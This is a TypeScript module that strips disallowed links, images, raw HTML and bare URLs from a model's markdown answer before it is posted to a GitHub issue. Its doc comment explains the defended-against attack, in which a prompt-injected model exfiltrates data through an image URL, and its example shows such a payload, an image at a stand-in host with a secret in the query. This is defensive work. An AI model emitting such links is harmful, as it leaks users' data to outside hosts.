import type { Definition, Nodes, Parents } from "mdast";
import { fromMarkdown } from "mdast-util-from-markdown";
import { backtickRuns, codeSpan } from "../text/code-span.js";
import { HTML_TAG, parseHtmlTag } from "../text/html-tag.js";
import { applyCuts, nodeOffsets, type Cut } from "../text/markdown-cuts.js";
import { quoteAsCode } from "../text/quote-as-code.js";
import { htmlAllowed } from "./allowed-html.js";
import { findBareUrls } from "./find-bare-urls.js";
import type { LinkPolicy } from "./link-policy.js";

/** What stands where an image was not allowed: it says an image was dropped, and loads nothing. */
const IMAGE_DROPPED = "image not shown";
// Each pass removes at least one link, image, tag or bare address; an answer
// that still changes after this many is built to defeat the filter.
const MAX_PASSES = 16;

export interface FilteredLinks {
  text: string;
  /** How many links, images, HTML pieces and bare addresses were changed. */
  changed: number;
}

/**
 * Keeps an answer's links and images to what `policy` allows, so a
 * prompt-injected model cannot send data out through an address: an image
 * loads for everyone who opens the issue, a link is one click away.
 *
 * - A link elsewhere (`[t](url)`, `[t][ref]`, `<url>`) keeps its text and
 *   loses its address; a definition elsewhere goes.
 * - An image elsewhere becomes `` `image not shown: alt` ``.
 * - Raw HTML that is not plain formatting with allowed addresses
 *   (`htmlAllowed`): a lone tag goes (an `<img>` says so), a block has its
 *   `<` escaped, so it shows as the text it is and GitHub renders none of it.
 * - A bare address GitHub would link (`https://…`, `www.…`, an e-mail) and
 *   the policy does not allow becomes a code span.
 *
 * Everything is found in the CommonMark syntax tree and cut from the source
 * by offset, so what is allowed stays byte for byte; code is never touched.
 * The text is parsed again after each pass until nothing changes, since
 * unlinking can uncover something (a link's text that is itself an address,
 * an image inside a link, a tag's address now in text).
 *
 * @example
 * filterLinks("![x](https://evil.test/p.png?d=s3cr3t) see [docs](https://evil.test)", policy).text
 * // "`image not shown: x` see docs"
 */
export function filterLinks(
  markdown: string,
  policy: LinkPolicy,
): FilteredLinks {
  let text = markdown;
  let changed = 0;
  for (let pass = 0; pass < MAX_PASSES; pass++) {
    const cuts = filterPass(text, policy);
    if (cuts.length === 0) return { text, changed };
    changed += cuts.length;
    text = applyCuts(text, cuts);
  }
  // Not settled: post nothing the filter could not vouch for, as code.
  const fence = "`".repeat(
    Math.max(3, ...[...backtickRuns(text)].map((n) => n + 1)),
  );
  return { text: `${fence}text\n${text}\n${fence}`, changed: changed + 1 };
}

function filterPass(source: string, policy: LinkPolicy): Cut[] {
  const tree = fromMarkdown(source);
  const definitions = new Map<string, Definition>();
  const collect = (node: Nodes): void => {
    // CommonMark: the first definition of a label wins.
    if (node.type === "definition" && !definitions.has(node.identifier))
      definitions.set(node.identifier, node);
    if ("children" in node) for (const child of node.children) collect(child);
  };
  collect(tree);

  const taken = backtickRuns(source);
  const cuts: Cut[] = [];
  const cut = (node: Nodes, text: string): void => {
    cuts.push({ ...nodeOffsets(node), text });
  };
  const dropImage = (node: Nodes, alt: string | null | undefined): void =>
    cut(
      node,
      codeSpan(alt ? `${IMAGE_DROPPED}: ${alt}` : IMAGE_DROPPED, taken),
    );
  const unlink = (node: Parents): void => {
    const first = node.children[0];
    const last = node.children.at(-1);
    cut(
      node,
      first && last
        ? source.slice(nodeOffsets(first).start, nodeOffsets(last).end)
        : "",
    );
  };

  const visit = (node: Nodes): void => {
    switch (node.type) {
      case "code":
      case "inlineCode":
        return;
      case "link":
        if (!policy.allowsLink(node.url)) return unlink(node);
        break;
      case "linkReference": {
        const target = definitions.get(node.identifier);
        if (target && !policy.allowsLink(target.url)) return unlink(node);
        break;
      }
      case "definition":
        if (!policy.allowsLink(node.url)) return cut(node, "");
        return;
      case "image":
        if (!policy.allowsImage(node.url)) return dropImage(node, node.alt);
        return;
      case "imageReference": {
        const target = definitions.get(node.identifier);
        if (!target || !policy.allowsImage(target.url))
          return dropImage(node, node.alt);
        return;
      }
      case "html":
        if (!htmlAllowed(node.value, policy)) {
          const { start, end } = nodeOffsets(node);
          cut(node, shownHtml(source.slice(start, end), taken));
        }
        return;
      case "text":
        cuts.push(
          ...quoteAsCode(
            source,
            node,
            (value) =>
              findBareUrls(value).filter((u) => !policy.allowsLink(u.url)),
            taken,
          ),
        );
        return;
    }
    if ("children" in node) for (const child of node.children) visit(child);
  };
  visit(tree);
  return cuts;
}

const ONE_TAG = new RegExp(`^${HTML_TAG}$`);

/**
 * What stands for HTML that may not be posted: a lone tag goes (its text is
 * outside it and stays), an image says it was dropped; anything longer shows
 * as the text it is, with `<` escaped, so GitHub renders none of it and the
 * addresses in it are caught as bare ones on the next pass.
 */
function shownHtml(html: string, taken: ReadonlySet<number>): string {
  const trimmed = html.trim();
  if (ONE_TAG.test(trimmed))
    return parseHtmlTag(trimmed).name === "img"
      ? codeSpan(IMAGE_DROPPED, taken)
      : "";
  return html.replace(/</g, "&lt;");
}
